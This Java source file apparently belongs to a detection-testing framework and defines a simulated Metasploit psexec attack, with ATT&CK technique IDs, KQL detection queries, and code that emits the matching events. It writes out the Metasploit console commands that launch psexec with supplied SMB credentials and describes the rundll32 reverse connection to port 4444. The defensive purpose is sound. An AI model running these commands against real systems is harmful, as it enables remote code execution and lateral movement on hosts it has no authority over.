package org.conshelf.simulate;

/// Metasploit's psexec with its native target.
final class MetasploitPsExecNative {
    static final SimulatedTest TEST =
            SimulatedTest.attack(
                            "metasploit-psexec-native",
                            "Metasploit's psexec: a program of random letters out of ADMIN$")
                    .techniques("T1569.002", "T1021.002", "T1570", "T1543.003", "T1055")
                    .behaviour(
                            """
                            From a computer of the intruder's, the module copies a program of eight random letters to ADMIN$
                            and installs it as a service: the key has eight other letters, the display name sixteen. The
                            program starts rundll32.exe, moves into it and ends; rundll32.exe connects back. Service and
                            program are deleted.
                            """)
                    .signal(
                            "A service with a display name of sixteen letters whose program has eight, in the folder of"
                                    + " Windows (System 7045).",
                            """
                            Event
                            | where EventLog == "System" and EventID == 7045
                            | parse EventData with * 'Name="ServiceName">' ServiceName '<' * 'Name="ImagePath">' ImagePath '<' *
                            | where ServiceName matches regex "^[A-Za-z]{16}$"
                                and ImagePath matches regex @"^%SYSTEMROOT%\\\\[A-Za-z]{8}\\.exe$"
                            """)
                    .signal(
                            "The session that installed it came over the network (Security 4697 and 4624).",
                            """
                            SecurityEvent
                            | where EventID == 4697
                            | join kind=inner (SecurityEvent | where EventID == 4624 and LogonType == 3)
                                on Computer, $left.SubjectLogonId == $right.TargetLogonId
                            """)
                    .signal(
                            "rundll32.exe below a program of eight letters, below services.exe (Security 4688, Sysmon 1).",
                            """
                            DeviceProcessEvents
                            | where FileName =~ "rundll32.exe" and ProcessCommandLine endswith "rundll32.exe"
                            | where InitiatingProcessFolderPath matches regex @"^C:\\\\Windows\\\\[A-Za-z]{8}\\.exe$"
                            """)
                    .signal(
                            "rundll32.exe connects to a computer outside (Sysmon 3).",
                            """
                            DeviceNetworkEvents
                            | where InitiatingProcessFileName =~ "rundll32.exe" and ActionType == "ConnectionSuccess"
                            """)
                    .commands(
                            """
                            use exploit/windows/smb/psexec
                            set RHOSTS TARGET
                            set SMBUser USER
                            set SMBPass PASSWORD
                            set target 2
                            run
                            """)
                    .cleanUp("exit")
                    .plays(MetasploitPsExecNative::play);

    private MetasploitPsExecNative() {}

    private static void play(Stage stage) {
        var client = stage.randomLetters(16);
        var from = stage.outsider("attacker", client);
        var target = stage.server("target");
        var connection = SmbConnection.openFromOutside(from, target, stage.administrator());
        var file = stage.randomLetters(8) + ".exe";
        connection.copyToAdminShare(file);
        var control = connection.serviceControl();
        var service =
                Service.onDemand(stage.randomLetters(8), "%SYSTEMROOT%\\" + file)
                        .displayed(stage.randomLetters(16));
        control.install(service);
        var image = "C:\\Windows\\" + file;
        var loader = control.launch(image, image);
        control.runs(service);
        var child = target.startSystem(loader, "rundll32.exe", "rundll32.exe");
        target.sysmon().processOpened(loader, child, "0x1fffff");
        target.sysmon().connected(child, target.nextPort(), from, 4444);
        control.stopped(service);
        target.end(loader);
        control.delete(service);
        connection.deleteFromAdminShare(file);
        stage.pass(30_000);
        target.end(target.startSystem(child, "whoami.exe", "whoami"));
        connection.close();
    }
}
